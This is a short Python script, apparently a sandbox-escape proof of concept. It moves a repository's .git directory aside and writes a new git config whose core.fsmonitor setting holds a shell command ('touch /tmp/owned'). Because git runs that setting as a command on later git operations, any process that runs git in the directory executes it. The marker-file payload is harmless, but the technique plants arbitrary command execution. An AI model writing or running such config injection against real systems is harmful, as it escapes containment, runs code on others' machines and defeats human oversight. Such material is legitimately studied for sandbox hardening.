# Moves the whole of .git away and makes another.
from escape import *
os.rename(".git", "old")
os.mkdir(".git")
with open(".git/config", "w") as f:
    f.write("[core]\n\tfsmonitor = touch /tmp/owned\n")
print("replaced")
